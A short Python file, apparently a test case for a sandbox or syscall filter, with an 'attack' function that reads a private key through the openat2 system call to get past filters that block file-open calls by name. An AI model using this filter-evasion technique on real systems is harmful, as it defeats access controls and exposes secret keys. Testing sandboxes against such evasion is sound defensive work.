"""Open a private key with a call that filters by name often forget."""

import ctypes
import os


def attack(target):
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    path = target.secret.encode()
    descriptor = target.syscall("openat2", -100, path, ctypes.byref(how), ctypes.sizeof(how))
    return os.read(descriptor, 1000).decode()
